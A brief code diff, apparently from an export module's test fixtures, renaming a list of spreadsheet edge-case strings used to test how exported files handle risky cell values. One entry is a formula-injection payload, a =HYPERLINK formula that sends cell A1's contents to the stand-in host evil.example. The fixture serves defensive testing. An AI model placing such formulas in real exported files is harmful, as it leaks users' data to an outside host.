@@ -2,7 +2,7 @@ import type { Cell, CellKind } from '@shared/columns/column';
 import type { ExportColumn, ExportHead, ExportRow } from '@shared/export/format/format';
 
 /** Texts that real registers hold and that break files. */
-export const nastyTexts: readonly string[] = [
+export const edgeCaseTexts: readonly string[] = [
   '=HYPERLINK("http://evil.example/?x="&A1;"klicka")',
   '=1+1',
   '@home',
